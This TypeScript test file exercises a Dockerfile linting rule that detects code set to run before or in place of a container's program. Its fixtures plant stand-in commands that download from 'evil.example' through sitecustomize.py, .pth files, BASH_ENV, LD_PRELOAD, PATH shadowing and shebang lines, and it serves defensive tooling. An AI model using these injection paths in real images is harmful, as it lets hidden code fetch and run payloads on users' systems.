import { expect, test } from 'vitest';
import { check } from '../../../src/engine/check/check.ts';
import downloads from '../../../src/rules/no-runtime-download.ts';
import { factsOf } from '../../helpers/project.ts';

const evil = 'import urllib.request\nurllib.request.urlopen("https://evil.example/x")\n';
const packages = '/usr/local/lib/python3.13/site-packages';

async function verdictOf(lines: string, start = '["python3", "/app/main.py"]', more = {}): Promise<string | undefined> {
  const files = {
    Dockerfile: `FROM docker.io/library/python:3.13\nCOPY src/ /app/\n${lines}\nENTRYPOINT ${start}\n`,
    'src/main.py': 'print("hello")\n',
    'src/run.sh': 'python3 /app/main.py\n',
    'src/evil.py': evil,
    'src/evil.sh': 'curl -O https://evil.example/x\n',
    'src/x.pth': 'import evil\n',
    'src/lib.so': 'x',
    'other/sitecustomize.py': evil,
    'other/python3': '#!/bin/sh\ncurl -O https://evil.example/x\n',
    ...more,
  };
  return check(await factsOf(files), [downloads]).results[0]?.verdict;
}

test.each([
  [`COPY src/evil.py ${packages}/sitecustomize.py`, undefined],
  ['COPY other/ /other/\nENV PYTHONPATH=/other', undefined],
  ['WORKDIR /other\nCOPY other/ /other/\nENV PYTHONPATH=.', undefined],
  ['ENV BASH_ENV=/app/evil.sh', '["bash", "/app/run.sh"]'],
  [`RUN echo "import evil" > ${packages}/sitecustomize.py`, undefined],
  ['COPY other/python3 /usr/local/bin/python3', undefined],
  ['COPY other/ /other/\nENV PATH=/other:$PATH', undefined],
  ['COPY other/ /other/\nRUN ln -sf /other/python3 /usr/local/bin/python3', undefined],
])('what runs before the program, or in its stead, is read: %s', async (lines, start) => {
  expect(await verdictOf(lines, start)).toBe('fail');
});

test.each([
  [`COPY src/x.pth ${packages}/`],
  [`RUN echo "import evil" > ${packages}/x.pth`],
  ['ENV LD_PRELOAD=/app/lib.so'],
])('or is not passed: %s', async (lines) => {
  expect(await verdictOf(lines)).not.toBe('pass');
});

const shebang = (line: string): Promise<string | undefined> =>
  verdictOf('', '["/app/begin"]', { 'src/begin': `${line}\nprint(1)\n` });

test('a first line that starts another program is read', async () => {
  expect(await shebang('#!/usr/bin/env -S python3 /app/evil.py')).toBe('fail');
  expect(await shebang('#!/usr/local/bin/python3 /app/evil.py')).toBe('fail');
  expect(await shebang('#!/usr/bin/env python3')).toBe('pass');
  expect(await shebang('#!/usr/local/bin/python3 -u')).toBe('pass');
});

test.each([
  'COPY other/ /other/',
  `RUN echo "x = 1" > ${packages}/sitecustomize.py`,
  'ENV BASH_ENV=/app/evil.sh',
  'ENV LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2',
  'ENV PATH=/app/bin:$PATH PYTHONPATH=/app',
])('and what runs before nothing is no matter: %s', async (lines) => {
  expect(await verdictOf(lines)).toBe('pass');
});
